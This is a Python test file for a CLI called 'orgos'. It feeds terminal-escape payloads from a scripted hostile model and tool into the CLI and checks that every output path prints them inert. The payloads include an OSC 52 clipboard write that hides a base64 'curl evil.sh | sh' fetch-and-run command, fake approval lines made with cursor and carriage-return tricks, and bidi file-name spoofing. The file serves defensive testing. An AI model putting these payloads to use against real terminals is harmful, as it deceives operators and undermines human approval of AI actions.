"""Terminal escapes from models, tools and tasks reach no terminal: every
command prints them inert, and rich markup in them stays text."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from cli_helpers import run_id_of
from conftest import Cli, ModelFile

from orgos.cli.safe import inert, inert_json

#: What a hostile model or tool would write to take over the terminal.
PAYLOADS = {
    "osc52 clipboard": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "osc0 title": "\x1b]0;orgos: all approved\x1b\\",
    "clear screen": "\x1b[2J\x1b[H",
    "cursor up, fake line": "\x1b[1A\x1b[2K✔ ap-0 approved by admin",
    "carriage return overwrite": "calm text\r✔ approved",
    "backspaces": "abc\x08\x08\x08✔ approved",
    "bell": "ding\x07",
    "c1 csi": "\x9b2J\x9b1A",
    "c1 osc": "\x9d0;title\x9c",
    "bidi override": "invoice \u202egnp.exe\u202c done",
    "bidi isolate": "\u2067hidden\u2069",
    "rich markup": "[green]✔ approved[/]",
    "new line, fake orgos line": "fine\n✔ ap-1 approved by admin: issue_refund(50000)",
    "line separator": "one\u2028✔ approved",
}
CORPUS = " | ".join(PAYLOADS.values())
#: Not in the runs' corpus: the journal refuses it before anything prints it.
SURROGATE = "x\ud800y"

# What must never reach the terminal: C0 controls but newline and tab, DEL,
# C1, bidi controls, separators, surrogates.
RAW = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029\ud800-\udfff]"
)

ECHO_TOOL = '''

@tool(idempotent=True)
def echo(text: str) -> str:
    """Say it back."""
    return "echo: " + text
'''


def hostile_project(project: Path, model_file: ModelFile) -> Path:
    """The assistant may echo; its model puts the corpus in every field."""
    tools = project / "tools.py"
    tools.write_text(tools.read_text() + ECHO_TOOL)
    agent = project / "agents" / "assistant.yaml"
    agent.write_text(agent.read_text().replace("tools: [word_count]", "tools: [word_count, echo]"))
    return model_file(f"""
        CORPUS = {CORPUS!r}

        def respond(request):
            if not any(m.role == "tool" for m in request.messages):
                return ScriptedModel.call("echo", text=CORPUS)
            return ScriptedModel.final(CORPUS)

        model = ScriptedModel(respond)
    """)


def assert_inert(out: str) -> None:
    found = RAW.findall(out)
    assert not found, f"raw control characters reached the terminal: {found!r}"
    # no line the model wrote starts where orgos's own lines start
    assert not [line for line in out.splitlines() if line.startswith("✔")]


@pytest.mark.parametrize(
    "payload", [*PAYLOADS.values(), SURROGATE], ids=[*PAYLOADS, "lone surrogate"]
)
def test_inert_leaves_no_control_character(payload: str) -> None:
    assert not RAW.search(inert(payload))
    assert not RAW.search(inert(payload, lines=True).replace("\n", ""))
    doc = json.dumps({"v": payload}, ensure_ascii=False)
    assert not RAW.search(inert_json(doc)) and json.loads(inert_json(doc)) == {"v": payload}


def test_inert_shows_what_it_escaped() -> None:
    assert inert("a\x1b[2Jb\rc\u202ed") == "a\\x1b[2Jb\\rc\\u202ed"
    assert inert("two\nlines\tand tab", lines=True) == "two\nlines\tand tab"
    assert inert("two\nlines") == "two\\nlines"
    assert inert("plain text, [brackets] and ✓") == "plain text, [brackets] and ✓"


def test_escapes_from_a_model_and_a_tool_are_inert_in_run_and_show(
    project: Path, cli: Cli, model_file: ModelFile
) -> None:
    model = hostile_project(project, model_file)
    result = cli("-p", project, "run", "assistant", "task: " + CORPUS, model=model)
    assert result.exit_code == 0, result.output
    run_id = run_id_of(result.output)
    outputs = {"run": result.output}
    for args in (["show", run_id], ["show", run_id, "--full"], ["runs", "--all"]):
        shown = cli("-p", project, *args)
        assert shown.exit_code == 0, shown.output
        outputs[" ".join(args)] = shown.output
    for out in outputs.values():
        assert_inert(out)
    for name in ("run", f"show {run_id} --full"):
        out = outputs[name]
        assert "[green]✔ approved[/]" in out, name  # markup is shown, not obeyed
        assert "\\x1b]52;c;" in out and "\\u202egnp.exe" in out and "\\r✔ approved" in out
    assert "echo: " in outputs[f"show {run_id} --full"]  # the tool's result, inert too
    # the whole answer is printed at the end, each of its lines indented
    assert " | fine\n  ✔ ap-1 approved by admin: issue_refund(50000) | " in outputs["run"]


def test_json_outputs_are_inert_and_keep_the_exact_text(
    project: Path, cli: Cli, model_file: ModelFile
) -> None:
    model = hostile_project(project, model_file)
    result = cli("-p", project, "run", "assistant", "hi", "--json", model=model)
    assert result.exit_code == 0, result.output
    assert_inert(result.output)
    assert json.loads(result.output)["output"] == CORPUS
    shown = cli("-p", project, "show", json.loads(result.output)["id"], "--json")
    assert_inert(shown.output)
    tool_results = [
        e["payload"] for e in json.loads(shown.output)["journal"]
        if e["kind"] == "tool" and e["phase"] == "result"
    ]  # fmt: skip
    assert json.dumps(tool_results[0], ensure_ascii=False).count("echo: ") == 1


def test_escapes_in_a_call_waiting_for_approval_are_inert(
    project: Path, cli: Cli, model_file: ModelFile
) -> None:
    model = hostile_project(project, model_file)
    (project / "policy.yaml").write_text(
        "rules:\n  - name: echoes\n    when: {tool: echo}\n    decide: approve\n"
        "    reason: echoes are checked\n"
    )
    parked = cli("-p", project, "run", "assistant", "hi", model=model)
    assert parked.exit_code == 3, parked.output
    assert "waits for approval" in parked.output
    inbox = cli("-p", project, "approvals")
    inbox_json = cli("-p", project, "approvals", "--json")
    approval = json.loads(inbox_json.output)[0]
    assert approval["call"]["arguments"]["text"] == CORPUS
    decided = cli("-p", project, "approvals", "approve", approval["id"], model=model)
    assert decided.exit_code == 0, decided.output
    audit = cli("-p", project, "audit", "log")
    for out in (parked.output, inbox.output, inbox_json.output, decided.output, audit.output):
        assert_inert(out)
    assert "[green]✔ approved[/]" in inbox.output


def test_a_failing_run_error_is_inert(project: Path, cli: Cli, model_file: ModelFile) -> None:
    model = model_file(f"model = ScriptedModel([RuntimeError({CORPUS!r})])")
    result = cli("-p", project, "run", "assistant", "hi", model=model)
    assert result.exit_code == 1, result.output
    assert_inert(result.output)
    assert "\\x1b[2J" in result.output


def test_the_runtime_warnings_on_stderr_are_inert() -> None:
    code = (
        "import logging\n"
        "from orgos.cli.common import log_to_stderr\n"
        "log_to_stderr()\n"
        "logging.getLogger('orgos.kernel').warning('tool failed: %s', CORPUS)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", f"CORPUS = {CORPUS!r}\n" + code],
        capture_output=True, text=True, timeout=60, check=True,
    )  # fmt: skip
    assert "tool failed: " in done.stderr
    assert_inert(done.stderr)
